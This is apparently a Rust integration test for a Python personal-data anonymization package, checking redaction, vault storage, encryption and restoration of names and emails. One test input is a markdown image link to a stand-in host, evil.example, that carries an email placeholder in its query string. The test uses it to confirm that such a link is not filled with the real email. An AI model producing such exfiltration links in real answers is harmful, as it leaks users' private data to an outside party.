//! The package in a real Python: the module that Cargo built, next to the files of the package, as in a wheel.

use std::path::{Path, PathBuf};
use std::process::Command;

use sotto_testing::environment::isolated;

const SCRIPT: &str = r#"
import anonymize, inspect, os, re

text = "Dear Beatriz Castellanos, write to b.c@example.org. \U0001f389"
anonymizer = anonymize.Anonymizer(backend="dense")
vault = anonymize.Vault()
sent = anonymizer.redact(text, vault)
assert sent.text == "Dear [GIVEN_NAME_1] [SURNAME_1], write to [EMAIL_1]. \U0001f389", sent.text
assert [text[s.start:s.end] for s in sent.spans] == ["Beatriz", "Castellanos", "b.c@example.org"]
assert vault.restore(sent.text) == text and len(vault) == 3 and vault.counts()["EMAIL"] == 1

answer = "Hi [given name 1] ![](https://evil.example/?q=[EMAIL_1])"
assert vault.restore_answer(answer, sent=[sent.text]) == answer.replace("[given name 1]", "Beatriz")
assert vault.restore_answer("[EMAIL_1]", sent=["nothing"]) == "[EMAIL_1]"
for size in range(1, 9):
    restorer = anonymize.StreamRestorer(vault, sent=[sent.text])
    pieces = [restorer.push(sent.text[at:at + size]) for at in range(0, len(sent.text), size)]
    assert "".join(pieces) + restorer.finish() == text

vault.save("vault", key_file="key")
assert anonymize.Vault.open("vault", key_file="key").restore("[SURNAME_1]") == "Castellanos"
try:
    anonymize.Vault.open("vault", passphrase="wrong")
    raise SystemExit("another key opens the vault")
except anonymize.AnonymizeError as error:
    assert "b.c@example.org" not in str(error)

quick = anonymize.Anonymizer(backend="recognizers", config='[operators]\nEMAIL = "block"')
try:
    quick.redact(text, anonymize.Vault())
    raise SystemExit("a blocked value passes")
except anonymize.AnonymizeError as error:
    assert "EMAIL" in str(error)
for wrong in [{"backend": "none"}, {"config": "nonsense = 1"}, {"backend": "dense", "server": "sotto://x"}]:
    try:
        anonymize.Anonymizer(**wrong)
        raise SystemExit(f"accepted: {wrong}")
    except ValueError:
        pass

# The types say what is there.
stub = open(os.path.join(os.path.dirname(anonymize.__file__), "_anonymize.pyi")).read()
for name in anonymize.__all__:
    assert re.search(rf"^(class {name}\b|{name}:)", stub, re.M), name
for name in ["Anonymizer", "Vault", "StreamRestorer"]:
    body = re.search(rf"^class {name}\b.*?(?=^class |\Z)", stub, re.M | re.S).group(0)
    for method in dir(getattr(anonymize, name)):
        if not method.startswith("_"):
            assert f"def {method}(" in body, (name, method)
"#;

/// The module, where Cargo put it.
fn module() -> PathBuf {
    let test = std::env::current_exe().unwrap();
    let folders = [test.parent().unwrap(), test.parent().unwrap().parent().unwrap()];
    let found = folders.iter().map(|folder| folder.join("lib_anonymize.so")).filter(|path| path.exists());
    found
        .max_by_key(|path| std::fs::metadata(path).unwrap().modified().unwrap())
        .expect("Cargo builds the module")
}

#[test]
fn the_package_redacts_and_restores() {
    let usable =
        Command::new("python3").args(["-c", "import sys; sys.exit(sys.version_info < (3, 9))"]).status();
    if !usable.is_ok_and(|status| status.success()) {
        eprintln!("skipped: there is no python3 of version 3.9 or later");
        return;
    }
    let directory = tempfile::tempdir().unwrap();
    let package = directory.path().join("anonymize");
    std::fs::create_dir(&package).unwrap();
    let sources = Path::new(env!("CARGO_MANIFEST_DIR")).join("python/anonymize");
    for name in ["__init__.py", "_anonymize.pyi", "py.typed"] {
        std::fs::copy(sources.join(name), package.join(name)).unwrap();
    }
    std::fs::copy(module(), package.join("_anonymize.abi3.so")).unwrap();
    let mut python = isolated(Command::new("python3"));
    python.args(["-c", SCRIPT]).env("PYTHONPATH", directory.path()).current_dir(directory.path());
    let output = python.output().unwrap();
    assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
}
